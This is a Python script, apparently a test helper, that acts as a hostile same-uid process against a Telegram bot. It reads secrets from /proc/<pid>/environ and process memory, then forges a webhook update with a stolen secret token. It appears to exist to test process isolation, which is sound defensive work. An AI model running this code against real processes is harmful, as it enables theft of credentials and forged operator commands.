"""A hostile process of the bot's own uid (what code in an agent can do): read /proc, forge.

Input on stdin, JSON: ``pids`` to attack, ``needles`` (secrets it would recognise in memory;
reported only by index, never echoed), ``names`` (variables worth stealing from an
environment), and optionally ``webhook`` ``{url, update}``: an operator update it forges
with the best webhook secret it found. Output on stdout, JSON: per pid, the errno of each
``/proc`` file it could not open, the names it stole, the needles it found in memory; and
the HTTP status the forged update got.
"""

from __future__ import annotations

import json
import sys
import urllib.error
import urllib.request
from typing import Any

SECRET_NAME = "TELEGRAM_WEBHOOK_SECRET"


def read_environ(pid: int, names: list[str]) -> dict[str, Any]:
    try:
        with open(f"/proc/{pid}/environ", "rb") as f:
            data = f.read()
    except OSError as exc:
        return {"errno": exc.errno}
    stolen: dict[str, str] = {}
    for entry in data.split(b"\0"):
        name, sep, value = entry.decode("latin-1").partition("=")
        if sep and name in names and value.strip("\0"):
            stolen[name] = value
    return {"stolen": stolen}


def read_mem(pid: int, needles: list[str]) -> dict[str, Any]:
    try:
        with open(f"/proc/{pid}/maps") as f:
            maps = f.read()
    except OSError as exc:
        return {"errno": exc.errno, "stage": "maps"}
    try:
        mem = open(f"/proc/{pid}/mem", "rb")  # noqa: SIM115 - closed below
    except OSError as exc:
        return {"errno": exc.errno, "stage": "mem"}
    found: set[int] = set()
    scanned = 0
    with mem:
        for line in maps.splitlines():
            fields = line.split()
            if not fields[1].startswith("rw"):
                continue
            start, end = (int(x, 16) for x in fields[0].split("-"))
            if end - start > 512 << 20:
                continue
            try:
                mem.seek(start)
                data = mem.read(end - start)
            except OSError:
                continue
            scanned += len(data)
            found |= {i for i, n in enumerate(needles) if n.encode() in data}
    return {"scanned": scanned, "found": sorted(found)}


def forge(webhook: dict[str, Any], secret: str) -> int:
    body = json.dumps(webhook["update"]).encode()
    request = urllib.request.Request(  # noqa: S310 - the test passes an http:// URL
        webhook["url"],
        data=body,
        headers={"Content-Type": "application/json", "X-Telegram-Bot-Api-Secret-Token": secret},
    )
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    try:
        with opener.open(request, timeout=10) as response:
            return int(response.status)
    except urllib.error.HTTPError as exc:
        return int(exc.code)


def main() -> None:
    job = json.load(sys.stdin)
    needles: list[str] = job.get("needles", [])
    report: dict[str, Any] = {"pids": {}}
    best = "a-guess-because-nothing-was-found"
    for pid in job["pids"]:
        env = read_environ(pid, job.get("names", []))
        mem = read_mem(pid, needles)
        report["pids"][str(pid)] = {"environ": env, "mem": mem}
        stolen = env.get("stolen", {})
        if SECRET_NAME in stolen:
            best = stolen[SECRET_NAME]
    if job.get("webhook"):
        report["forged_status"] = forge(job["webhook"], best)
        report["used_stolen_secret"] = best != "a-guess-because-nothing-was-found"
    json.dump(report, sys.stdout)


if __name__ == "__main__":
    main()
